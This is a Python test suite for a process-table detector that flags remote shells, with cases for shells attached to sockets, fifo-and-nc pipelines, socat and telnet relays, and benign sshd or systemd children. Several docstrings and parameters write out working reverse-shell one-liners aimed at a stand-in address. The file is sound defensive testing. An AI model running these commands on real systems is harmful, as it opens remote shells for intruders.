from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from agent.sources.programs.proctable import Table
from agent.sources.programs.shells import remote_shells

if TYPE_CHECKING:
    from tests.agent.sources.conftest import ProcTree

SERVERS = frozenset({"systemd", "inetd"})


def found(tree: ProcTree) -> list[tuple[str, str, str]]:
    shells = remote_shells(Table(tree.proc), SERVERS)
    return [(one.process.base, one.connection.remote_address, one.how) for one in shells]


@pytest.mark.parametrize(
    "stdio",
    [
        ("socket:[7]", "socket:[7]", "socket:[7]"),
        ("/dev/pts/1", "socket:[7]", "socket:[7]"),
        ("socket:[7]", "/dev/null", "/dev/null"),
    ],
)
def test_a_shell_on_a_connection_is_one_that_somebody_elsewhere_types_into(
    tree: ProcTree, stdio: tuple[str, str, str]
) -> None:
    tree.connection(7)
    tree.process("/usr/bin/dash", name="sh", arguments="sh -i", stdio=stdio)

    assert found(tree) == [("dash", "203.0.113.9", "stdio")]


def test_an_interpreter_whose_both_ends_are_one_connection_is_a_shell_too(tree: ProcTree) -> None:
    tree.connection(7)
    tree.process("/usr/bin/python3.11", stdio=("socket:[7]", "socket:[7]", "socket:[7]"))
    tree.process("/usr/bin/python3.11", stdio=("/dev/null", "socket:[7]", "/dev/null"), sockets=(7,))

    assert found(tree) == [("python3.11", "203.0.113.9", "stdio")]


def test_a_shell_behind_a_relay_is_found_by_its_parent(tree: ProcTree) -> None:
    """socat TCP:203.0.113.9:4444 EXEC:/bin/bash,pty"""
    tree.connection(7)
    relay = tree.process("/usr/bin/socat", sockets=(7,))
    tree.process("/usr/bin/bash", parent=relay, stdio=("/dev/pts/3", "/dev/pts/3", "/dev/pts/3"))

    assert found(tree) == [("bash", "203.0.113.9", "child of a relay")]


def test_a_shell_between_a_fifo_and_nc_is_found_by_its_pipes(tree: ProcTree) -> None:
    """mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f"""
    tree.connection(7)
    tree.process("/usr/bin/cat", stdio=("/dev/pts/0", "pipe:[11]", "/dev/pts/0"))
    tree.process("/usr/bin/sh", stdio=("pipe:[11]", "pipe:[12]", "pipe:[12]"))
    tree.process("/usr/bin/nc.openbsd", stdio=("pipe:[12]", "/tmp/f", "/dev/pts/0"), sockets=(7,))

    assert found(tree) == [("sh", "203.0.113.9", "pipes to a relay")]


@pytest.mark.parametrize(
    ("program", "arguments"),
    [
        ("/usr/bin/socat1", "socat1 TCP:203.0.113.9:4444 EXEC:sh,pty"),
        ("/usr/bin/telnet.netkit", "telnet 203.0.113.9 4444"),
        ("/usr/bin/busybox", "busybox nc 203.0.113.9 4444"),
        ("/bin/busybox", "/bin/nc 203.0.113.9 4444"),
    ],
)
@pytest.mark.parametrize("fifo", ["/tmp/f", "/dev/shm/f", "pipe:[11]"])
def test_a_relay_is_known_by_the_names_that_distributions_give_it(
    tree: ProcTree, program: str, arguments: str, fifo: str
) -> None:
    tree.connection(7)
    tree.process("/usr/bin/dash", stdio=(fifo, "pipe:[12]", "pipe:[12]"))
    tree.process(program, arguments=arguments, stdio=("pipe:[12]", fifo, "/dev/pts/0"), sockets=(7,))

    assert found(tree) == [("dash", "203.0.113.9", "pipes to a relay")]


def test_a_shell_between_two_relays_is_found_by_the_pipes_of_both(tree: ProcTree) -> None:
    """telnet 203.0.113.9 4444 | sh | telnet 203.0.113.9 4445"""
    tree.connection(7)
    tree.connection(8, remote_port=4445)
    tree.process("/usr/bin/telnet", stdio=("/dev/pts/0", "pipe:[11]", "/dev/pts/0"), sockets=(7,))
    tree.process("/usr/bin/sh", stdio=("pipe:[11]", "pipe:[12]", "/dev/pts/0"))
    tree.process("/usr/bin/telnet", stdio=("pipe:[12]", "/dev/pts/0", "/dev/pts/0"), sockets=(8,))

    assert found(tree) == [("sh", "203.0.113.9", "pipes to a relay")]


def test_other_applets_of_busybox_and_a_script_that_sends_its_output_away_are_none(tree: ProcTree) -> None:
    tree.connection(7)
    tree.process("/usr/bin/dash", stdio=("/dev/shm/list", "pipe:[12]", "/dev/null"))
    tree.process(
        "/usr/bin/busybox",
        arguments="busybox wget -O- http://203.0.113.9/",
        stdio=("pipe:[12]", "/dev/shm/list", "/dev/null"),
        sockets=(7,),
    )
    tree.process("/usr/bin/sh", stdio=("pipe:[5]", "pipe:[6]", "/dev/null"))
    tree.process("/usr/bin/nc", stdio=("pipe:[6]", "/dev/null", "/dev/null"), sockets=(7,))

    assert found(tree) == []


def test_the_shells_of_people_and_jobs_are_none(tree: ProcTree) -> None:
    tree.connection(7, local_port=22, remote_port=51000)
    tree.connection(1, local_port=22, state=10)
    sshd = tree.process("/usr/sbin/sshd", sockets=(7,))
    tree.process("/usr/bin/bash", parent=sshd, stdio=("/dev/pts/0", "/dev/pts/0", "/dev/pts/0"))
    tree.process("/usr/bin/bash", parent=sshd, stdio=("pipe:[1]", "pipe:[2]", "pipe:[3]"))
    tree.process("/usr/bin/bash", parent=sshd, stdio=("socket:[900]", "socket:[900]", "socket:[901]"))
    tree.process("/usr/bin/sh", stdio=("/dev/null", "pipe:[5]", "/dev/null"))
    tree.process("/usr/bin/nc", stdio=("pipe:[5]", "/dev/null", "/dev/null"), sockets=(7,))

    assert found(tree) == []


def test_a_shell_on_the_loopback_is_a_matter_of_this_host(tree: ProcTree) -> None:
    tree.connection(7, remote="127.0.0.1")
    tree.process("/usr/bin/bash", stdio=("socket:[7]", "socket:[7]", "socket:[7]"))

    assert found(tree) == []


def test_what_a_socket_unit_starts_is_a_service_and_a_bind_shell_is_not(tree: ProcTree) -> None:
    tree.connection(7, local_port=79, remote_port=51000)
    tree.connection(1, local_port=79, state=10)
    systemd = tree.process("/usr/lib/systemd/systemd", pid=1, parent=0)
    tree.process("/usr/bin/sh", parent=systemd, stdio=("socket:[7]", "socket:[7]", "/dev/null"))
    assert found(tree) == []
    tree.process("/usr/bin/bash", parent=4711, stdio=("socket:[7]", "socket:[7]", "socket:[7]"))

    assert found(tree) == [("bash", "203.0.113.9", "stdio")]


def test_a_shell_whose_parent_died_is_no_service_only_because_systemd_took_it_in(tree: ProcTree) -> None:
    tree.connection(7)
    systemd = tree.process("/usr/lib/systemd/systemd", pid=1, parent=0)
    tree.process("/usr/bin/sh", parent=systemd, stdio=("socket:[7]", "socket:[7]", "socket:[7]"))

    assert found(tree) == [("sh", "203.0.113.9", "stdio")]
